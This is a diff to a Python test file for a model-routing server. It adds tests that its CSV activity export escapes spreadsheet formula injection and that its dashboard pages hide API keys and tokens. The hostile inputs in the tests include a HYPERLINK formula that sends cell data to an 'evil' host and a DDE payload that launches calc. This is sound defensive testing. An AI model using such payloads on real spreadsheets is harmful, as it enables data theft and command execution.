@@ -21,7 +21,8 @@ import pytest
 from router.activity import ActivityRow, ActivityStore
 from router.auth import Keys
 from router.browser_guard import host_name, own_host
-from router.dashboard import key_labels, redacted_args
+from router.dashboard import key_labels
+from router.redact import redacted_args
 from router.request_rules import Timings, parse_timings
 
 from .conftest import RouterFactory, fake_profile, wait_until
@@ -119,9 +120,52 @@ async def test_activity_is_bounded_filtered_exported_and_kept_in_its_file(tmp_pa
     await again.close()
 
 
+async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    start_router: RouterFactory, dummy_model: Path
+) -> None:
+    """A client chooses the model id and path it sends; a cell starting with `=`, `+`, `-`, `@`, a tab
+    or a carriage return would be run as a formula by a spreadsheet, so it is written as text."""
+    router = await start_router({"m": fake_profile(dummy_model)})
+    hostile = [
+        '=HYPERLINK("http://evil/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1",
+        "\r=1",
+    ]
+    for model in hostile:
+        status, body = await router.chat(model)
+        assert status == 404, body
+
+    async def rows() -> list[dict[str, Any]]:
+        return (await get_json(router, "/activity"))[1]["activity"]
+
+    await wait_until(lambda: _count(rows, len(hostile)), what="the activity rows")
+    async with router.session.get("/activity.csv") as response:
+        assert response.status == 200
+        exported = list(csv.DictReader(io.StringIO(await response.text())))
+    formula = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for entry in exported for cell in entry.values() if cell.startswith(formula)]
+    models = {entry["model"] for entry in exported}
+    assert {"'" + model for model in hostile[:4]} <= models, models
+    assert all(entry["status"] == "404" for entry in exported), "numbers stay numbers"
+
+
+async def test_the_csv_export_quotes_tabs_and_carriage_returns_too(tmp_path: Path) -> None:
+    """Ids with control characters are escaped before they are kept; a stored one is still safe."""
+    store = ActivityStore(tmp_path / "activity.sqlite3")
+    await store.open()
+    store.add(row("\t=1+2", error="\r@x", client="-1"))
+    await store.flush()
+    [entry] = list(csv.DictReader(io.StringIO(await store.csv(), newline="")))
+    assert (entry["model"], entry["error"], entry["client"]) == ("'\t=1+2", "'\r@x", "'-1")
+    await store.close()
+
+
 async def test_an_unusable_activity_file_costs_the_log_not_the_router(tmp_path: Path) -> None:
     path = tmp_path / "activity.sqlite3"
-    path.write_bytes(b"this is not a database" * 100)
+    path.mkdir()  # no file can be opened there (a damaged file is moved aside: see test_bad_entries)
     store = ActivityStore(path)
     await store.open()
     store.add(row())
@@ -260,10 +304,40 @@ async def test_config_shows_the_profiles_but_never_keys_or_secrets(
     for secret in ("user-key", "admin-key", "upstream-secret", "hf_secret"):
         assert secret not in text, secret
     assert config["server"]["api_keys"] == "1 key(s)"
-    assert config["profiles"]["m"]["env"] == {"HF_TOKEN": "(hidden)", "MODE": "x"}
+    assert config["profiles"]["m"]["env"] == {"HF_TOKEN": "(hidden)", "MODE": "(hidden)"}, "names only"
     assert "--api-key" in config["profiles"]["m"]["args"] and "(hidden)" in config["profiles"]["m"]["command"]
     assert config["path"] == str(router.config.path)
     assert config["reload"]["last_error"] is None
+    status, config = await get_json(router, "/config", headers={"Authorization": "Bearer admin-key"})
+    assert config["profiles"]["m"]["env"] == {"HF_TOKEN": "(hidden)", "MODE": "x"}, "an admin sees values"
+
+
+async def test_secret_values_are_hidden_on_every_page_that_shows_a_command_line_or_output(
+    start_router: RouterFactory, dummy_model: Path
+) -> None:
+    """The fake upstream echoes its unknown arguments and then fails to load: the command line, its
+    output, the failure's reason and log tail reach /logs, /events' timeline, /running and /overview."""
+    secrets = ("sekrit-aaaa", "tok-bbbb", "keyfile-cccc")
+    flags = ("--crash-during-load", "--api-key", secrets[0], f"--hf-token={secrets[1]}")
+    profile = fake_profile(dummy_model, *flags, "--api-key-file", secrets[2], "--log-lines", "2")
+    router = await start_router({"m": profile}, max_failures=1)
+    async with router.session.post("/models/load?wait=1", json={"model": "m"}) as response:
+        assert response.status == 503, await response.text()
+    pages = {}
+    for path in ("/logs/m", "/running", "/overview", "/config", "/v1/models"):
+        async with router.session.get(path) as response:
+            assert response.status == 200, path
+            pages[path] = await response.text()
+    for path, text in pages.items():
+        for secret in secrets:
+            assert secret not in text, (path, secret)
+    assert "starting: " in pages["/logs/m"] and "--api-key (hidden)" in pages["/logs/m"]
+    assert "ignored args" in pages["/logs/m"] and "'--hf-token=(hidden)'" in pages["/logs/m"], "its output"
+    overview = json.loads(pages["/overview"])
+    failed = [event for event in overview["timeline"] if event["event"] == "failed"]
+    assert failed and "(hidden)" in failed[-1]["reason"], "the failure's log tail, as /events sent it"
+    [model] = overview["models"]
+    assert model["status"] == "failed" and any("(hidden)" in line for line in model["log_tail"])
 
 
 def test_secret_flags_are_hidden_with_and_without_an_equals_sign() -> None:
